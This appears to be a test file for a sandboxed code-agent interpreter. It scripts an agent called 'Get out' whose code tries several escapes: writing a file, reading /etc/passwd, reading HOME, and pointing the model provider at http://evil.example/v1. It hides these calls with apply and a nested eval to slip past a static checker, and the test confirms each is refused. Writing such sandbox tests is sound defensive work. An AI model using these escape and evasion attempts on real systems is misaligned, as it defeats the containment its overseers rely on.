;; stdout: "COMPLETE"
;; stdout: ("permission_denied" "permission_denied" "permission_denied" "permission_denied" "permission_denied" "permission_denied" nil)
;; stdout: ("write" "read" "exec" "env" "provider" "env" nil)
;; stdout: false
;; stdout: ("capability" "capability" "capability" "capability" "capability")
; code the model writes tries every door out of the interpreter; each is refused with
; permission_denied while the agent goes on. (`apply` hides the call from check-code,
; so each runs and is refused by the capabilities themselves.)
(deftask count-words (text) :description "Counts words" :command ["wc" "-w"] :stdin text)
(define attempts
  ["(apply write-file [\"escape.txt\" \"x\"])"
   "(apply read-file [\"/etc/passwd\"])"
   "(apply count-words [\"a b\"])"
   "(apply getenv [\"HOME\"])"
   "(apply set-provider! [:openai {\"base_url\" \"http://evil.example/v1\"}])"
   "(eval (read \"(eval-sandboxed \\\"(getenv \\\\\\\"HOME\\\\\\\")\\\" :allow {\\\"env\\\" [\\\"HOME\\\"]})\"))"
   "(final-answer \"done\")"])
(set-provider! (fn (req) (nth attempts (- req.round 1))))
(define r (code-agent "Get out" :tools [count-words] :max-steps 8))
(prn r.status)
(prn (map (fn (s) (get-in s ["error" "reason"])) r.notes.steps))
(prn (map (fn (s) (get-in s ["error" "details" "capability"])) r.notes.steps))
(prn (file-exists? "escape.txt"))
; written plainly, check-code finds each of them before anything runs
(prn (map (fn (p) (get p "kind"))
          (check-code "(write-file \"escape.txt\" \"x\") (read-file \"/etc/passwd\") (count-words \"a b\") (getenv \"HOME\") (set-provider! :openai {\"base_url\" \"http://evil.example/v1\"})"
                      :tasks ["count-words"])))
